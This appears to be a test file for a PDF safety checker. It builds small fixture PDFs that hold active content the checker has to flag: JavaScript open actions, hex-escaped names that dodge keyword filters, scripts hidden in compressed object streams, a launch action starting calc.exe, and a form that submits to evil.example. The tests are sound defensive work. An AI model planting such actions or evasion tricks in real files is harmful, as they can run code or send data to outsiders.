import { deflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import { pdf, pdfOf, pdfWith } from '../testing/files'
import { judgePdf } from './pdf-content'

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>'
/** Objects 4 and 5 in a compressed object stream, as most programs write them. */
function packed(...objects: string[]): string {
  const numbers = objects.map((_, index) => `${index + 5} ${objects.slice(0, index).join(' ').length + (index && 1)}`)
  const first = `${numbers.join(' ')} `
  const data = deflateSync(Buffer.from(first + objects.join(' '))).toString('latin1')
  return `<< /Type /ObjStm /N ${objects.length} /First ${first.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`
}

test.each([
  ['a plain file', pdf()],
  ['one that opens on a page', pdfWith('/OpenAction [3 0 R /Fit]')],
  ['one that goes to a page by an action, as LaTeX writes it', pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')],
  ['one with a link', pdfWith('', '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://salute.gov.it) >> >>')],
  ['one that is signed', pdfWith('/AcroForm << /SigFlags 3 /Fields [] >>')],
  ['one with a compressed object', pdfWith('', packed('<< /S /URI >>'))],
])('%s is sound', async (_, content) => {
  expect(await judgePdf(content)).toBe('sound')
})

test.each([
  ['a script when it is opened', pdfWith(`/OpenAction ${SCRIPT}`)],
  ['a name written in another way', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>')],
  ['a script in an object of its own', pdfWith('/OpenAction 4 0 R', '<< /S /J#61vaScript >>')],
  ['a compressed script', pdfWith('/OpenAction 5 0 R', packed(SCRIPT))],
  ['a compressed script that nothing opens', pdfWith('', packed('<< /A 1 >>', SCRIPT))],
  ['scripts by name', pdfWith('/Names << /J#61vaScript << /Names [] >> >>')],
  ['a page opened on the web', pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>')],
  ['a step after going to a page', pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI >> >>')],
  ['a program that it starts', pdfWith('', '<< /S /L#61unch /F (calc.exe) >>')],
  ['something at each turn of a page', pdfWith('/AA << /WC << /S /GoTo >> >>')],
  ['a form that sends itself', pdfWith('', '<< /A [ << /S /SubmitForm /F (https://evil.example) >> ] >>')],
  ['an object that is none', pdfWith('', '<< /S /SubmitForm /F (x) > >')],
  ['a form with scripts of its own', pdfWith('/AcroForm << /XFA 4 0 R >>', '(xdp)')],
])('%s is active', async (_, content) => {
  expect(await judgePdf(content)).toBe('active')
})

test.each([
  ['nothing but the first bytes', Buffer.from('%PDF-1.7\n')],
  ['half a file', pdf('x'.repeat(400)).subarray(0, 60)],
  ['no page', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
])('%s is unreadable', async (_, content) => {
  expect(await judgePdf(content)).toBe('unreadable')
})

test('a password that is asked for locks a file, one that only forbids changes does not', async () => {
  const locked = await PDFDocument.load(pdf())
  locked.encrypt({ userPassword: 'segreto', ownerPassword: 'segreto' })
  expect(await judgePdf(Buffer.from(await locked.save()))).toBe('locked')
  const open = await PDFDocument.load(pdf())
  open.encrypt({ userPassword: '', ownerPassword: 'segreto', permissions: { modifying: false } })
  expect(await judgePdf(Buffer.from(await open.save()))).toBe('sound')
})
